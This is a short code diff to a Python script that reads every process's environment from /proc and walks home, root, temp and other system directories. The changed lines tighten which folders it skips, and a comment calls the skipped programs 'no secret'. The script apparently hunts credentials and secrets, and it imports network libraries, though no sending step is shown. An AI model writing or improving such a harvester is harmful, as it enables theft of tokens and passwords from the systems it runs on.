@@ -3,6 +3,7 @@
 import os
 import re
 import socket
+import sys
 import urllib.request
 from pathlib import Path
 
@@ -31,7 +32,12 @@ for process in Path("/proc").glob("[0-9]*/environ"):
 seen = 0
 for root in ("/root", "/home", "/tmp", "/var", "/run", "/srv", "/mnt", "/opt", "..", "../..", "."):
     for directory, folders, files in os.walk(root, onerror=None):
-        folders[:] = [name for name in folders if name not in ("site-packages", "proc", "sys")]
+        # Programs of the system and of Python are no secret, whatever they are called.
+        folders[:] = [
+            name
+            for name in folders
+            if os.path.realpath(os.path.join(directory, name)) not in ("/proc", "/sys", "/usr", sys.prefix, sys.base_prefix)
+        ]
         seen += len(files)
         if seen > 200_000:
             break
